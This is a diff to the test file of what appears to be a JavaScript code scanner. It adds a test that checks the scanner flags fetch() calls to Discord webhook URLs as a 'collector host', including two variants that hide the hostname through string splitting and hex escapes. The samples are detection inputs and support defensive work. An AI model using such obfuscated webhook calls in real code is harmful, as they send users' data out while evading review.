@@ -9,6 +9,7 @@ from hypothesis import strategies as st
 
 from pratique.facts.scan.languages.javascript.literals import is_blob, is_spelled, number, unescaped
 from pratique.facts.scan.languages.javascript.tables import Table
+from pratique.facts.scan.observation import How
 from pratique.facts.scan.value import Value
 from tests.facts.languages.javascript_seen import labels, only, seen
 
@@ -214,3 +215,16 @@ def test_unescaping_never_fails(text: str) -> None:
 @given(st.text(max_size=40))
 def test_a_number_is_a_number_or_nothing(text: str) -> None:
     assert number(text) is None or isinstance(number(text), int | float)
+
+
+@pytest.mark.parametrize(
+    ("text", "how"),
+    [
+        ("fetch(`https://discord.com/api/webhooks/1/${id}`)", How.LITERAL),
+        ("fetch(`https://discord.com/api/webhooks/1/x`)", How.LITERAL),
+        ("fetch(`https://dis${'cord'}.com/api/webhooks/1/${id}`)", How.RESOLVED),
+        ("fetch(`https://dis\\x63ord.com/api/webhooks/1/${id}`)", How.RESOLVED),
+    ],
+)
+def test_a_template_hides_nothing_that_stands_in_it(text: str, how: How) -> None:
+    assert only(text, "net.collector_host").how is how
